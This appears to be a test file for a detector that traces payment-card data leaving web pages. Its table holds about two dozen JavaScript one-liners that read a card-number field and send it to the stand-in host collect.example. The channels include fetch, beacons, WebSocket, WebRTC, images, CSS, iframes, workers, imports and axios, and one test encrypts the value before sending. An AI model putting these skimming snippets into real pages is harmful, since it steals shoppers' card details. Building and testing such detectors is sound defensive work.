import assert from 'node:assert/strict';
import { flowsOf } from './sandbox-of-tests.ts';

const card = "document.getElementById('cc_number').value";

/** Each way out of a page, as code that sends the card number `n` to collect.example. */
const sinks: Record<string, string> = {
  fetch: "fetch('https://collect.example/f', { method: 'POST', body: n })",
  xhr: "var x = new XMLHttpRequest(); x.open('POST', 'https://collect.example/x'); x.send('n=' + n)",
  beacon: "navigator.sendBeacon('https://collect.example/b', n)",
  websocket: "var w = new WebSocket('wss://collect.example/s'); w.onopen = function () { w.send(n) }",
  eventsource: "new EventSource('https://collect.example/e?n=' + n)",
  rtc: "var p = new RTCPeerConnection({ iceServers: [{ urls: 'turn:collect.example', username: n, credential: 'c' }] })",
  image: "new Image().src = '//collect.example/i.gif?n=' + n",
  script:
    "var s = document.createElement('script'); s.src = '//collect.example/j?n=' + n; document.head.appendChild(s)",
  iframe:
    "var f = document.createElement('iframe'); f.setAttribute('src', '//collect.example/f?n=' + n); document.body.append(f)",
  link: "var l = document.createElement('link'); l.rel = 'prefetch'; l.href = '//collect.example/l?n=' + n; document.head.appendChild(l)",
  form: "var f = document.createElement('form'); f.action = 'https://collect.example/f'; f.method = 'post'; f.innerHTML = '<input name=\"a\" value=\"' + n + '\">'; document.body.appendChild(f); f.submit()",
  navigation: "location = 'https://collect.example/?n=' + n",
  popup: "window.open('https://collect.example/?n=' + n)",
  'css, in a style of the page':
    "var s = document.head.appendChild(document.createElement('style')); s.textContent = 'p{background:url(https://collect.example/c/' + n + '.png)}'",
  'css, in an adopted style sheet':
    "var s = new CSSStyleSheet(); s.replaceSync('p{background:url(https://collect.example/c/' + n + ')}'); document.adoptedStyleSheets = [s]",
  'rtc, in the description of an offer':
    "var p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:collect.example' }] }); p.createOffer().then(function (o) { p.setLocalDescription({ type: o.type, sdp: o.sdp.replace(/^s=-$/m, 's=' + n) }) })",
  css: "document.body.style.backgroundImage = 'url(https://collect.example/c?n=' + n + ')'",
  'post-message':
    "var f = document.createElement('iframe'); f.src = 'https://collect.example/'; document.body.appendChild(f); f.contentWindow.postMessage(n, '*')",
  worker: "new Worker('https://collect.example/w.js?n=' + n)",
  'script, as a dynamic import': "import('//collect.example/m.js?n=' + n)",
  'script, as a dynamic import of a module':
    "import('https://collect.example/m.js?n=' + n);export const version = 1",
  object:
    "var o = document.createElement('object'); o.data = 'https://collect.example/o?n=' + n; document.body.appendChild(o)",
  library: "axios.post('https://collect.example/a', { n: n })",
  'library, with text': "axios.post('https://collect.example/a', btoa(n))",
};

describe('emulator: ways out', () => {
  for (const [transport, code] of Object.entries(sinks)) {
    it(`finds the card number leaving by ${transport}`, async () => {
      const flows = await flowsOf(`var n = ${card}; ${code};`);
      const flow = flows.find(
        (item) => item.transport === transport.split(',')[0] && item.field === 'card-number',
      );
      assert.equal(flow?.host, 'collect.example');
      assert.equal(flow.proof, 'canary');
    });
  }

  it('sees that what a cipher of a library makes depends on what was typed', async () => {
    const [flow] = await flowsOf(
      `var n = ${card}; new Image().src = '//collect.example/i?' + CryptoJS.AES.encrypt(n, 'k').toString()`,
    );
    assert.equal(flow?.field, 'card-number');
    assert.equal(flow.proof, 'dependence');
  });

  it('takes an element that is only appended for no leak', async () => {
    const flows = await flowsOf(
      `var d = document.createElement('div'); d.textContent = ${card}; document.body.appendChild(d);`,
    );
    assert.deepEqual(flows, []);
  });

  it('tells requests to the page’s own site from others', async () => {
    assert.deepEqual(await flowsOf(`fetch('/pay', { method: 'POST', body: ${card} })`), []);
  });
});
